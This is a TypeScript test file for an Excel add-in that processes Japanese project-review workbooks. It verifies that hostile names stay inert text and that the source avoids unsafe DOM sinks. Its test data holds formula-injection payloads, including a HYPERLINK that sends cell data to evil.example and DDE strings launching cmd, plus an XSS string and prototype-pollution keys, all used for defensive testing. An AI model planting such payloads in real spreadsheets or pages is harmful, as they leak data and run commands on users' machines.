import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { policyArea12 } from '../../samples/policy-area-12';
import { layOut } from '../../samples/lay-out';
import { snapshotToXlsx } from '../../samples/snapshot-to-xlsx';
import { createOfficeHost } from '../../src/hosts/office/office-host';
import { readXlsx } from '../../src/hosts/xlsx/read-xlsx';
import { writeXlsx } from '../../src/hosts/xlsx/write-xlsx';
import { defaultSettings } from '../../src/model/settings';
import { readSettings } from '../../src/read/own-tabs/settings';
import { review } from '../../src/review';
import { rules } from '../../src/rules';
import { plan } from '../../src/tabs/plan';
import { planSettingsTab } from '../../src/tabs/settings/tab';
import { openExcel } from '../hosts/office/excel';
import { standingTab } from '../../src/workbook/standing-tab';

/** Texts that somebody could do harm with, were they anything but text. */
const hostile = [
  '=HYPERLINK("https://evil.example/?"&A1,"開く")',
  '=cmd|"/c calc"!A1',
  '@SUM(1+1)*cmd|"/c calc"!A1',
  '+1+1',
  '-1+1',
  "'=1+1",
  '\\1,000',
  '＝１＋１',
  '<img src=x onerror=alert(1)>',
  '&lt;script&gt;',
  '__proto__',
  'constructor',
  'toString',
  '㋿6年',
];

/** The sample, one of whose projects bears the text as its name. */
function named(text: string) {
  const [first, ...others] = policyArea12.cardGroups;
  if (!first) throw new Error('the sample has no card');
  const [card, ...cards] = first.cards;
  if (!card) throw new Error('the sample has no card');
  const cardGroups = [{ ...first, cards: [{ ...card, name: text }, ...cards] }, ...others];
  return layOut({ ...policyArea12, cardGroups, list: null }).snapshot;
}

describe.each(hostile)('the name %s', (text) => {
  const snapshot = named(text);
  const planned = plan(review(snapshot), '令和7年6月1日');

  test('stays text in Excel, wherever it is written', async () => {
    const { workbook, session } = openExcel(snapshot);
    await createOfficeHost().write(planned);
    const list = workbook.sheet('事務事業一覧').cells.within({ top: 0, left: 0, bottom: 99, right: 30 });
    const found = list.filter(({ cell }) => cell.value === text);
    expect(found.length).toBeGreaterThan(0);
    expect(found.every(({ cell }) => cell.formula === null)).toBe(true);
    expect(session.failures).toEqual([]);
  });

  test('stays text in a file', () => {
    const { bytes } = writeXlsx(snapshotToXlsx(snapshot), planned);
    const list = readXlsx(bytes, '').sheets.find(({ name }) => name === '事務事業一覧');
    const found = list?.cells.filter(({ value }) => value === text) ?? [];
    expect(found.length).toBeGreaterThan(0);
    expect(found.every(({ formula }) => !formula)).toBe(true);
  });
});

describe.each(['__proto__', 'constructor', 'toString'])('what is called %s', (name) => {
  const { snapshot } = layOut(policyArea12);
  const [cards] = snapshot.sheets.filter((sheet) => sheet.name.startsWith('個票'));
  if (!cards) throw new Error('the sample has no cards');
  const renamed = (sheet: string) => (sheet === cards.name ? name : sheet);

  test('a sheet is read, judged and built from as any other', () => {
    const sheets = snapshot.sheets.map((sheet) => ({ ...sheet, name: renamed(sheet.name) }));
    const [before, after] = [review(snapshot), review({ ...snapshot, sheets })];
    const placesOf = ({ findings }: typeof before) =>
      findings.map(({ rule, place }) => [rule, place && { ...place, sheet: renamed(place.sheet) }]);
    expect(placesOf(after)).toEqual(placesOf(before));
    const amounts = (now: typeof before) => plan(now, '').tabs.find(({ kind }) => kind === 'finance')?.rows.length;
    expect(amounts(after)).toBe(amounts(before));
  });

  test('a line of 設定 is unknown, and no more', () => {
    const settings = standingTab(planSettingsTab(defaultSettings, [], rules));
    const row = Math.max(...settings.cells.map((cell) => cell.row)) + 1;
    const line = [name, name].map((value, column) => ({ row, column, value, format: '', formula: false }));
    const changed = { ...settings, cells: [...settings.cells, ...line] };
    const read = (sheet: typeof settings) => readSettings({ name: '', sheets: [sheet] }, rules);
    expect(read(changed).settings).toEqual(read(settings).settings);
    expect(read(changed).problems).toHaveLength(1);
  });
});

test('nothing of the pane makes markup or code of a text', () => {
  const root = join(__dirname, '../../src');
  const files = readdirSync(root, { recursive: true, encoding: 'utf8' }).filter((file) => /\.tsx?$/.test(file));
  const risky =
    /\b(?:innerHTML|outerHTML|insertAdjacentHTML|dangerouslySetInnerHTML|document\.write|eval|new Function)\b/;
  expect(files.length).toBeGreaterThan(100);
  expect(files.filter((file) => risky.test(readFileSync(join(root, file), 'utf8')))).toEqual([]);
});
